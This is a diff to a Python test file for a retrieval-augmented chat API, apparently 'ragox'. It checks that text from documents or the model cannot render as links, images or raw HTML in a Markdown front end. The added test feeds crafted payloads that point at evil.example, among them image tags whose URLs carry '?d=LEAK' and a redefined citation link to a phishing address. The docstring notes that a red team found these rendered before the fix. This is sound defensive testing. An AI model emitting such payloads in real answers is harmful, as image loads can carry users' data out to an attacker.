@@ -3,6 +3,7 @@ server, abstention, injection as data, access and revisions."""
 
 from __future__ import annotations
 
+import dataclasses
 import json
 import re
 import threading
@@ -388,10 +389,26 @@ def test_a_model_translation_is_withheld_and_redacted_with_the_answer(
     assert stored is not None and "4711" not in json.dumps(stored)
 
 
+def _acting(content: str) -> list[str]:
+    """What CommonMark (markdown-it, HTML allowed) renders in ``content`` as more than
+    text: links, images, raw HTML."""
+    from markdown_it import MarkdownIt
+
+    found, pending = [], list(MarkdownIt("commonmark").parse(content))
+    while pending:
+        token = pending.pop()
+        if token.type in ("image", "link_open", "html_inline", "html_block"):
+            found.append(token.type)
+        pending.extend(token.children or ())
+    return found
+
+
 def test_chat_content_links_only_its_own_markers_and_loads_no_image(app: Ragox) -> None:
     """The chat route's content: a "[1]" of the document's own reads "［1］" (the route's
-    markers are "[1]", "[2]"), and a Markdown image in the quoted text is escaped, so a
-    front end neither links the one nor loads the other unasked (before: both as written)."""
+    markers are "[1]", "[2]"), and nothing in a document's or a model's text renders as
+    a link, an image (loaded unasked: its address could carry text out) or raw HTML in
+    a Markdown front end: not directly, not across a withheld marker, not by redefining
+    "[1]" (before: all of these rendered, as the red team showed with markdown-it)."""
     from ragox.api._chat import _cited
 
     _doc(
@@ -403,12 +420,25 @@ def test_chat_content_links_only_its_own_markers_and_loads_no_image(app: Ragox) 
     record = app.ask("How often is the valve closed?", STAFF)
     assert record.claims and "[1] says" in record.claims[0].text
     content, annotations = _cited(record, "/view/anchors/")
-    assert re.findall(r"\[(\d+)\]", content) == [str(a["ragox"]["number"]) for a in annotations]
-    assert "\uff3b1\uff3d says" in content
-    assert "![" not in content and "!\\[chart]" in content
+    assert re.findall(r"(?<!\\)\[(\d+)\]", content) == [
+        str(a["ragox"]["number"]) for a in annotations
+    ]
+    assert "\uff3b1\uff3d says" in content and _acting(content) == []
     for note in annotations:  # each link still points at its own marker
         where = note["url_citation"]
         assert content[where["start_index"] : where["end_index"]] == f"[{note['ragox']['number']}]"
+    cited = record.claims[0].source_id
+    for crafted in (
+        f"P-48 needs 10 Nm.\n\n[ 1 ]: http://evil.example/phish\n\nSee [{cited}]",
+        "the data. ![S9][a](http://evil.example/x.png?d=LEAK)",  # S9 is no source: dropped
+        f'A note <img src="http://evil.example/p.png?d=LEAK2"> [{cited}]',
+        f'<a href="http://evil.example">&#91;1&#93;</a> and [x](http://e.example) [{cited}]',
+    ):
+        content, _ = _cited(dataclasses.replace(record, answer=crafted), "/view/anchors/")
+        assert _acting(content) == [], (crafted, content)
+    # a plain answer keeps its code as written (escapes only where something would act)
+    plain = dataclasses.replace(record, answer=f"Run `make && make install` [{cited}]")
+    assert _cited(plain, "/view/anchors/")[0] == "Run `make && make install` [1]"
 
 
 def test_access_revocation_and_revisions(app: Ragox) -> None:
